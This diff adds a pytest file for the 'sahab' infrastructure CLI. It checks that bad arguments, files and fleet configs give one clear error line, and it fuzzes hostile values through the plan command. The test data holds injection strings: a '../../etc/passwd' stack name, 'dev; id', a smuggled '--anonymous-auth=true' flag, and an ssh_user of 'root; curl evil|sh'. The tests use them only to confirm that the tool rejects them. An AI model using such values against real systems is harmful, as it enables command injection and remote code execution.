@@ -1,0 +1,231 @@
+"""Every command (plan, check, audit, bench, train) given bad input of each kind (usage, config, program,
+files, outputs): the right exit code, exactly one stderr line starting `error:` that names what is wrong, and
+no traceback. The commands run in this process (the cheapest bad inputs fail in well under a second); stderr is
+captured at the file descriptor, so output from threads and asyncio teardown counts too."""
+
+from __future__ import annotations
+
+import copy
+import json
+import os
+import re
+
+import pytest
+import yaml
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+
+from sahab.cli import main
+from tests.components.fleet_config.test_fleet_fuzz import FIELDS, HOSTILE, LABEL_KEY, field_path, with_value
+from tests.fleets import ROOT, hybrid_fleet
+
+NOWHERE = "http://127.0.0.1:9"  # discard port on loopback: nothing listens, nothing leaves the machine
+
+
+@pytest.fixture(autouse=True)
+def no_aws_credentials_of_the_host(monkeypatch, tmp_path):
+    for name in list(os.environ):
+        if name.startswith("AWS_"):
+            monkeypatch.delenv(name)
+    monkeypatch.setenv("AWS_ACCESS_KEY_ID", "testing")
+    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "testing")
+    monkeypatch.setenv("AWS_CONFIG_FILE", str(tmp_path / "no-aws-config"))
+    monkeypatch.setenv("AWS_SHARED_CREDENTIALS_FILE", str(tmp_path / "no-aws-credentials"))
+
+
+@pytest.fixture
+def files(tmp_path):
+    """Bad files of every kind, and a program folder whose stack `t` holds a given fleet."""
+    (tmp_path / "binary.json").write_bytes(b"\x00\xff\xfe\x80")
+    (tmp_path / "not-a-result.json").write_text('{"node": "x"}')
+    (tmp_path / "a-file").write_text("x")
+    (tmp_path / "a-folder").mkdir()
+    return tmp_path
+
+
+def program(tmp_path, stack: str | dict, name: str = "p"):
+    folder = tmp_path / name
+    folder.mkdir(exist_ok=True)
+    (folder / "Pulumi.yaml").write_text(f"name: sahab\nruntime: python\nmain: {ROOT / 'stacks'}\n")
+    text = stack if isinstance(stack, str) else yaml.safe_dump({"config": {"sahab:fleet": stack}})
+    (folder / "Pulumi.t.yaml").write_text(text)
+    return folder
+
+
+def run(capfd, argv: list[str]) -> tuple[int, str, str]:
+    capfd.readouterr()
+    code = main(argv)
+    out, err = capfd.readouterr()
+    return code, out, err
+
+
+def assert_one_error_line(code: int, err: str, expected_code: int, says: str) -> None:
+    assert "Traceback" not in err, err
+    lines = err.rstrip("\n").split("\n")
+    assert len(lines) == 1 and lines[0].startswith("error: "), err
+    assert says in lines[0], (says, lines[0])
+    assert code == expected_code, (code, err)
+
+
+def fleet(mutate) -> dict:
+    data = hybrid_fleet()
+    mutate(data)
+    return data
+
+
+# ---- usage: every command -----------------------------------------------------------------------------------
+
+USAGE = [
+    (["plan", "--format", "xml"], "argument --format"),
+    (["plan", "--stack"], "argument --stack"),
+    (["plan", "--stack", "../../etc/passwd"], "'../../etc/passwd' is not a stack name"),
+    (["check", "--stack", "dev; id"], "'dev; id' is not a stack name"),
+    (["check", "--format", "pdf"], "argument --format"),
+    (["check", "--no-such-flag"], "--no-such-flag"),
+    (["audit", "gcp"], "argument cloud"),
+    (["audit", "aws", "--regions", "a b;c", "--endpoint-url", NOWHERE], "--regions: 'b;c'"),
+    (["audit", "aws", "--scan-regions", "mars", "--endpoint-url", NOWHERE], "--scan-regions: 'mars'"),
+    (["audit", "aws", "--endpoint-url", "ftp://127.0.0.1/"], "--endpoint-url"),
+    (["audit", "aws", "--max-workers", "0", "--endpoint-url", NOWHERE], "--max-workers"),
+    (["audit", "aws", "--timeout", "0", "--endpoint-url", NOWHERE], "--timeout"),
+    (["audit", "aws", "--timeout", "soon"], "argument --timeout"),
+    (["bench", "--format", "xml"], "argument --format"),
+    (["bench", "--results", "r.json"], "--results is only used with --fleet-report"),
+    (["bench", "--fleet-report", "r.html"], "--fleet-report needs --results"),
+    (["train", "--nproc", "0"], "argument --nproc"),
+    (["train", "--steps", "abc"], "argument --steps"),
+    (["train", "--precision", "fp8"], "argument --precision"),
+    (["train", "--checkpoint-every", "-1"], "argument --checkpoint-every"),
+    (["deploy"], "invalid choice: 'deploy'"),
+]
+
+
+@pytest.mark.parametrize(("argv", "says"), USAGE, ids=[" ".join(a) for a, _ in USAGE])
+def test_bad_usage_of_every_command_is_one_error_line_and_exit_2(capfd, argv, says):
+    code, _, err = run(capfd, argv)
+    assert_one_error_line(code, err, 2, says)
+
+
+# ---- files: missing, binary, not what they should be ---------------------------------------------------------
+
+FILE_CASES = [
+    (["check", "--policy-config", "{tmp}/missing.json"], "missing.json"),
+    (["check", "--waivers", "{tmp}/missing.yaml"], "missing.yaml"),
+    (["audit", "aws", "--waivers", "{tmp}/missing.yaml", "--endpoint-url", NOWHERE], "missing.yaml"),
+    (["audit", "aws", "--output", "{tmp}/a-folder", "--endpoint-url", NOWHERE], "--output {tmp}/a-folder"),
+    (["audit", "aws", "--output", "{tmp}/a-file/report.json", "--endpoint-url", NOWHERE], "--output"),
+    (["audit", "aws", "--evidence-dir", "{tmp}/a-file/ev", "--endpoint-url", NOWHERE], "--evidence-dir"),
+    (["bench", "--fleet-report", "{tmp}/r.html", "--results", "{tmp}/missing.json"], "missing.json: cannot read"),
+    (["bench", "--fleet-report", "{tmp}/r.html", "--results", "{tmp}/binary.json"], "binary.json: not a sahab bench"),
+    (["bench", "--fleet-report", "{tmp}/r.html", "--results", "{tmp}/not-a-result.json"], "not-a-result.json"),
+    (["plan", "--stack", "qa"], "--stack qa: no Pulumi.qa.yaml"),
+    (["plan", "--program", "{tmp}/a-folder"], "Pulumi.yaml"),
+]
+
+
+@pytest.mark.parametrize(("argv", "says"), FILE_CASES, ids=[" ".join(a) for a, _ in FILE_CASES])
+def test_bad_files_are_one_error_line_naming_the_file(capfd, files, argv, says):
+    argv = [a.format(tmp=files) for a in argv]
+    code, _, err = run(capfd, argv)
+    assert_one_error_line(code, err, 2, says.format(tmp=files))
+
+
+# ---- config: the fleets of issue 18, through plan and check ----------------------------------------------
+
+FLEETS = [
+    ("config:\n  sahab:fleet: hello\n", "sahab:fleet: must be a mapping"),
+    (fleet(lambda d: d.update(workload={"enabled": True, "teams": []})), "sahab:fleet.workload.teams:"),
+    (fleet(lambda d: d.update(workload={"teams": [{"name": "kube-system"}]})), "sahab:fleet.workload.teams[0].name:"),
+    (fleet(lambda d: d["node_pools"][0].update(labels={"team": "x --anonymous-auth=true"})),
+     "sahab:fleet.node_pools[0].labels.team:"),
+    (fleet(lambda d: d["node_pools"][0].update(extra_taints=[{"key": "k", "value": "a\nb"}])),
+     "sahab:fleet.node_pools[0].extra_taints[0].value:"),
+    (fleet(lambda d: d["node_pools"][1].update(instance_type="g5.bogus")), "sahab:fleet.node_pools[1].instance_type:"),
+    (fleet(lambda d: d["sites"][0]["hosts"][1].update(address="10.0.0.1")), "sahab:fleet.sites[0].hosts[1].address:"),
+    (fleet(lambda d: d["node_pools"][1].update(max_size=True)), "sahab:fleet.node_pools[1].max_size:"),
+    (fleet(lambda d: d["clusters"][1].update(kubernetes_version="1.99")),
+     "sahab:fleet.clusters[1].kubernetes_version:"),
+    (fleet(lambda d: d.update(monitoring={"retention": "0d"})), "sahab:fleet.monitoring.retention:"),
+    (fleet(lambda d: d["sites"][0].update(ssh_user="root; curl evil|sh")), "sahab:fleet.sites[0].ssh_user:"),
+    (fleet(lambda d: d["clusters"][1].update(public_endpoint=True)), "sahab:fleet.clusters[1].public_endpoint_cidrs:"),
+    (fleet(lambda d: (d.update(name="f" * 20), d["storage"]["buckets"][0].update(name="b" * 40))),
+     "sahab:fleet.storage.buckets[0].name:"),
+]
+
+
+@pytest.mark.parametrize(("stack", "says"), FLEETS, ids=[s for _, s in FLEETS])
+def test_bad_fleets_are_one_error_line_naming_the_setting_in_plan_and_check(capfd, tmp_path, stack, says):
+    folder = program(tmp_path, stack)
+    for command in ("plan", "check"):
+        code, out, err = run(capfd, [command, "--program", str(folder), "--stack", "t", "--format", "json"])
+        assert_one_error_line(code, err, 2, says)
+        assert out == ""
+
+
+def test_a_program_that_raises_is_one_error_line_in_plan_and_check(capfd, tmp_path):
+    folder = tmp_path / "broken"
+    folder.mkdir()
+    (folder / "Pulumi.yaml").write_text("name: broken\nruntime: python\n")
+    (folder / "Pulumi.dev.yaml").write_text("config: {}\n")
+    (folder / "__main__.py").write_text("import pulumi\n\nraise KeyError('region')\n")
+    for command in ("plan", "check"):
+        code, _, err = run(capfd, [command, "--program", str(folder), "--stack", "dev"])
+        assert_one_error_line(code, err, 2, f"{folder / '__main__.py'}:3: KeyError")
+
+
+def test_a_check_report_into_a_missing_folder_is_one_error_line(capfd, tmp_path):
+    folder = program(tmp_path, {"environment": "smb"})
+    code, _, err = run(capfd, ["check", "--program", str(folder), "--stack", "t",
+                               "--output", str(tmp_path / "nowhere" / "report.json")])
+    assert_one_error_line(code, err, 2, "--output")
+
+
+# ---- the fuzz, end to end: a few hostile fleets through `sahab plan` --------------------------------------
+
+CONTROL = re.compile(r"[\x00-\x1f\x7f]")
+
+
+@settings(max_examples=6, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture,
+                                                                 HealthCheck.too_slow])
+@given(field=st.sampled_from([f for f in FIELDS if f[-1] != LABEL_KEY]), value=HOSTILE)
+def test_a_hostile_fleet_through_the_cli_is_refused_naming_the_setting_or_plans_clean_values(
+        capfd, tmp_path_factory, field, value):
+    data = with_value(field, value)
+    folder = program(tmp_path_factory.mktemp("fuzz"), copy.deepcopy(data))
+    code, out, err = run(capfd, ["plan", "--program", str(folder), "--stack", "t", "--format", "json"])
+    assert "Traceback" not in err
+    if code == 2:
+        lines = err.rstrip("\n").split("\n")
+        assert len(lines) == 1 and lines[0].startswith("error: sahab:fleet"), err
+        return
+    assert code in (0, 1), err  # 1: accepted, but the readiness verdict says it would not come up
+    assert json.loads(out)["resources"]
+    # What the plan accepted is plain: nothing that adds a line, a flag or an Ansible template where it lands. The
+    # schema strips surrounding whitespace (str_strip_whitespace), so what lands is the stripped value.
+    landed = value.strip()
+    assert not CONTROL.search(landed) and "{{" not in landed and " --" not in landed, (field_path(field), value)
+
+
+def test_an_accepted_fleet_reaches_the_clouds_with_its_values_intact(capfd, tmp_path):
+    data = hybrid_fleet()
+    data["clusters"][1].update(public_endpoint=True, public_endpoint_cidrs=["203.0.113.0/24"])
+    data["clusters"][2].update(public_endpoint=True, public_endpoint_cidrs=["198.51.100.0/24", "192.0.2.0/28"])
+    for pool in data["node_pools"][1:]:
+        pool.update(labels={"example.com/team": "vision-1", "node.kubernetes.io/exclude-from-external-load-balancers":
+                            "true"}, extra_taints=[{"key": "example.com/dedicated", "value": "vision", "effect":
+                                                    "NoExecute"}])
+    code, out, err = run(capfd, ["plan", "--program", str(program(tmp_path, data)), "--stack", "t",
+                                 "--format", "json"])
+    assert code == 0, err
+    by_type: dict[str, list[dict]] = {}
+    for r in json.loads(out)["resources"]:
+        by_type.setdefault(r["type"], []).append(r["inputs"])
+    (eks,) = by_type["aws:eks/cluster:Cluster"]
+    assert eks["vpcConfig"]["publicAccessCidrs"] == ["203.0.113.0/24"]
+    (aks,) = by_type["azure-native:containerservice:ManagedCluster"]
+    assert aks["apiServerAccessProfile"]["authorizedIPRanges"] == ["198.51.100.0/24", "192.0.2.0/28"]
+    (group,) = by_type["aws:eks/nodeGroup:NodeGroup"]
+    assert group["labels"]["example.com/team"] == "vision-1"
+    assert {"key": "example.com/dedicated", "value": "vision", "effect": "NO_EXECUTE"} in group["taints"]
+    pools = [p for p in by_type["azure-native:containerservice:AgentPool"] if p.get("nodeTaints")]
+    assert pools[0]["nodeTaints"] == ["example.com/dedicated=vision:NoExecute"]
